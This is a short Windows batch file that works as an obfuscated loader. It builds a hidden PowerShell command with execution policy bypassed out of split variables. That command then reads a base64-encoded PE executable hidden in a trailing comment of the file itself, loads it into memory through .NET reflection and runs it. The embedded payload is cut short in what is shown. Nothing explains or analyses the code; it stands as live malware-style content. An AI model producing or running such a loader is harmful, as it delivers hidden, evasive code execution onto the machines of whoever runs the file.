@echo off
set "wXq=pow"&set "Lr=ersh"&set "aP=ell -w hid"&set "mN=den -ep by"&set "zz=pass -c "
set "c1=$b=[IO.File]::ReadAllText('%~f0').Split(':')[-1];"
set "c2=[Reflection.Assembly]::Load([Convert]::FromBase64String($b)).EntryPoint.Invoke($null,$null)"
%wXq%%Lr%%aP%%mN%%zz%"%c1%%c2%"
exit /b
::TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu
